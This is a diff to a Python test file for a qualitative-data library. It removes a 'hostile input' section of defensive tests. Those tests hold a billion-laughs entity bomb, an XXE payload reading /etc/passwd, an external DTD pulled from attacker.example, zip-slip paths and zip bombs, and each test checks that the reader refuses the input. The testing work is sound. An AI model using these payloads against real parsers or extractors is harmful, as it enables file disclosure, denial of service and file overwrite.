@@ -40,7 +40,6 @@ from statecode import (
     write_qdc,
     write_qdpx,
 )
-from statecode.io.refi import DEFAULT_MAX_BYTES
 from tests.strategies import codebooks, short_texts, texts
 
 HERE = Path(__file__).resolve().parent
@@ -1326,116 +1325,6 @@ def test_read_qdpx_corrupt_member(tmp_path: Path) -> None:
     assert _message(exc) == (
         f"{path}: member 'project.qde': cannot unpack the member (Bad CRC-32 for file "
         "'project.qde'); re-export the project"
-    )
-
-
-# --------------------------------------------------------------------------------------------
-# hostile input
-
-BILLION_LAUGHS = """<?xml version="1.0"?>
-<!DOCTYPE lolz [
- <!ENTITY lol "lol">
- <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
- <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
- <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
- <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
- <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
- <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
- <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
- <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
-]>
-<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>
-<Code guid="c4b0b1e2-6a39-4f4b-9e58-0a1e4c3d2b10" name="&lol9;" isCodable="true"/>
-</Codes></CodeBook>
-"""
-EXTERNAL_ENTITY = """<?xml version="1.0"?>
-<!DOCTYPE CodeBook [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
-<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>
-<Code guid="c4b0b1e2-6a39-4f4b-9e58-0a1e4c3d2b10" name="x" isCodable="true">
-<Description>&secret;</Description></Code>
-</Codes></CodeBook>
-"""
-EXTERNAL_DTD = """<?xml version="1.0"?>
-<!DOCTYPE CodeBook SYSTEM "http://attacker.example/evil.dtd">
-<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes/></CodeBook>
-"""
-REFUSED = (
-    "refused: the XML has a document type declaration (<!DOCTYPE ...>), whose entities can "
-    "expand without limit or read other files; REFI-QDA files have none, so re-export the "
-    "file from the QDA program"
-)
-HOSTILE_XML = [
-    pytest.param(BILLION_LAUGHS, id="billion-laughs"),
-    pytest.param(EXTERNAL_ENTITY, id="external-entity"),
-    pytest.param(EXTERNAL_DTD, id="external-dtd"),
-]
-
-
-@pytest.mark.parametrize("xml", HOSTILE_XML)
-def test_hostile_xml_in_qdc_is_refused(tmp_path: Path, xml: str) -> None:
-    path = tmp_path / "evil.qdc"
-    path.write_text(xml, encoding="utf-8")
-    with pytest.raises(DataError) as exc:
-        read_qdc(path)
-    assert _message(exc) == f"{path}: {REFUSED}"
-
-
-@pytest.mark.parametrize("xml", HOSTILE_XML)
-def test_hostile_xml_in_qdpx_is_refused(tmp_path: Path, xml: str) -> None:
-    path = _small_qdpx(tmp_path, xml.replace("CodeBook", "Project"))
-    with pytest.raises(DataError) as exc:
-        read_qdpx(path)
-    assert _message(exc) == f"{path}: member 'project.qde': {REFUSED}"
-
-
-@pytest.mark.parametrize(
-    "member",
-    ["../evil.txt", "/abs.txt", "..\\evil.txt", "C:/evil.txt", "sources/../../evil.txt"],
-)
-def test_zip_slip_is_refused(tmp_path: Path, member: str) -> None:
-    path = tmp_path / "slip.qdpx"
-    with zipfile.ZipFile(path, "w") as zf:
-        zf.writestr("project.qde", _qde(_source()))
-        zf.writestr(zipfile.ZipInfo(member), b"overwrite something")
-    with pytest.raises(DataError) as exc:
-        read_qdpx(path)
-    assert _message(exc) == (
-        f"{path}: member {member!r}: its path is absolute or climbs out of the archive with "
-        "'..' (a zip-slip archive); refusing the whole file: re-export the project from the "
-        "QDA program"
-    )
-
-
-def test_zip_bomb_beyond_max_bytes_is_refused(tmp_path: Path) -> None:
-    path = _small_qdpx(tmp_path, b"\0" * (8 << 20))
-    with pytest.raises(DataError) as exc:
-        read_qdpx(path, max_bytes=1 << 20)
-    assert _message(exc) == (
-        f"{path}: member 'project.qde': the archive unpacks to more than max_bytes=1048576 "
-        "bytes (a zip bomb?); refusing it. If the project really is this large, raise max_bytes"
-    )
-
-
-def test_max_bytes_counts_every_member_read(tmp_path: Path) -> None:
-    sources = _source(text=None, attrs=' plainTextPath="internal://d.txt"')
-    qde = _qde(sources)
-    path = _small_qdpx(tmp_path, qde, {"sources/d.txt": b"x" * 2000})
-    assert read_qdpx(path, max_bytes=len(qde) + 2000).corpus.documents[0].text == "x" * 2000
-    with pytest.raises(DataError) as exc:
-        read_qdpx(path, max_bytes=len(qde) + 1999)
-    assert _message(exc).startswith(f"{path}: member 'sources/d.txt': the archive unpacks to ")
-
-
-def test_zip_bomb_by_compression_ratio_is_refused(tmp_path: Path) -> None:
-    path = _small_qdpx(tmp_path, b"\0" * (16 << 20))
-    with zipfile.ZipFile(path) as zf:
-        compressed = zf.getinfo("project.qde").compress_size
-    assert DEFAULT_MAX_BYTES > 16 << 20
-    with pytest.raises(DataError) as exc:
-        read_qdpx(path)
-    assert _message(exc) == (
-        f"{path}: member 'project.qde': expands more than 100 times over its {compressed} "
-        "compressed bytes (a zip bomb?); refusing it"
     )
 
 
